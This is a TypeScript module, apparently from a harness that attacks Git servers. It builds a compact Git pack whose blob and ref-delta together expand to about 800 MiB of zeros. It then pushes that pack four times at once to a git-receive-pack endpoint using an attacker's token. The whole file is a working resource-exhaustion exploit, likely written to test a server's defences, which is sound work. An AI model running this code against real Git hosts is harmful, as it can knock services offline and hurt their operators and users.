import { createHash, type Hash } from "node:crypto"
import { Readable } from "node:stream"
import { buffer } from "node:stream/consumers"
import { createDeflate, deflateSync } from "node:zlib"
import type { Attack } from "../Attack.ts"
import { basic, call, callers, packet, repositoryUrl } from "../callers.ts"

const mebibyte = 1024 * 1024
const zeroBytes = 400 * mebibyte
const zeros = Buffer.alloc(mebibyte)

function* allZeros(): Generator<Buffer> {
  for (let left = zeroBytes; left > 0; left -= zeros.length) yield zeros
}

type Kind = "commit" | "tree" | "blob" | "refDelta"
const kindNumbers: Readonly<Record<Kind, number>> = { commit: 1, tree: 2, blob: 3, refDelta: 7 }

/** The number in pieces of seven bits, the lowest first. */
const varint = (value: number): ReadonlyArray<number> =>
  value < 128 ? [value] : [(value % 128) | 0x80, ...varint(Math.floor(value / 128))]

/** What stands in front of an object in a pack. */
const objectHead = (kind: Kind, size: number): Buffer => {
  const first = (kindNumbers[kind] << 4) | (size % 16)
  return Buffer.from(size < 16 ? [first] : [first | 0x80, ...varint(Math.floor(size / 16))])
}

const idOf = (kind: Kind, size: number, pieces: Iterable<Buffer>): Hash => {
  const hash = createHash("sha1").update(`${kind} ${size}\0`)
  for (const piece of pieces) hash.update(piece)
  return hash
}

const whole = (kind: Kind, content: Buffer) => ({
  id: idOf(kind, content.length, [content]).digest(),
  bytes: Buffer.concat([objectHead(kind, content.length), deflateSync(content)])
})

const maxCopy = 0xffffff

/** Copies all of the zeros and adds a letter. */
const delta = (): Buffer => {
  const bytes = [...varint(zeroBytes), ...varint(zeroBytes + 1)]
  for (let at = 0; at < zeroBytes; at += maxCopy) {
    const size = Math.min(maxCopy, zeroBytes - at)
    const little = (value: number, count: number) => Array.from({ length: count }, (_, index) => (value >>> (8 * index)) & 0xff)
    bytes.push(0xff, ...little(at, 4), ...little(size, 3))
  }
  return Buffer.from([...bytes, 1, 0x78])
}

/** A pack of 408 KB that holds a commit of two files of 400 MiB, one of which is a delta on the other. */
const zeroPack = async (): Promise<{ readonly commit: string; readonly pack: Buffer }> => {
  const packed = await buffer(Readable.from(allZeros()).pipe(createDeflate({ level: 9 })))
  const base = idOf("blob", zeroBytes, allZeros()).digest()
  const letter = Buffer.from("x")
  const result = idOf("blob", zeroBytes + 1, [...allZeros(), letter]).digest()
  const entry = (name: string, id: Buffer) => Buffer.concat([Buffer.from(`100644 ${name}\0`), id])
  const tree = whole("tree", Buffer.concat([entry("base", base), entry("result", result)]))
  const who = "Attacker <attacker@example.com> 1700000000 +0000"
  const text = `tree ${tree.id.toString("hex")}\nauthor ${who}\ncommitter ${who}\n\nAdd zeros\n`
  const commit = whole("commit", Buffer.from(text))
  const change = delta()
  const objects = [
    commit.bytes,
    tree.bytes,
    Buffer.concat([objectHead("blob", zeroBytes), packed]),
    Buffer.concat([objectHead("refDelta", change.length), base, deflateSync(change)])
  ]
  const body = Buffer.concat([Buffer.from([...Buffer.from("PACK"), 0, 0, 0, 2, 0, 0, 0, objects.length]), ...objects])
  return { commit: commit.id.toString("hex"), pack: Buffer.concat([body, createHash("sha1").update(body).digest()]) }
}

const zeroDeltas: Attack = {
  title: "4 pushes at a time of 408 KB, a delta on 400 MiB of zeros",
  prepare: async (target) => {
    const { attacker, pushes } = target
    const { commit, pack } = await zeroPack()
    const url = `${repositoryUrl(target, pushes)}/git-receive-pack`
    const headers = {
      "content-type": "application/x-git-receive-pack-request",
      authorization: basic(attacker, attacker.token)
    }
    return () =>
      callers(4, (caller, index) => {
        const ref = `refs/heads/zeros-${caller}-${index}`
        const command = packet(`${"0".repeat(40)} ${commit} ${ref}\0 report-status\n`)
        return call(caller, { method: "POST", url, headers, body: Buffer.concat([Buffer.from(`${command}0000`), pack]) })
      })
  }
}

export const deltas = { zeroDeltas }
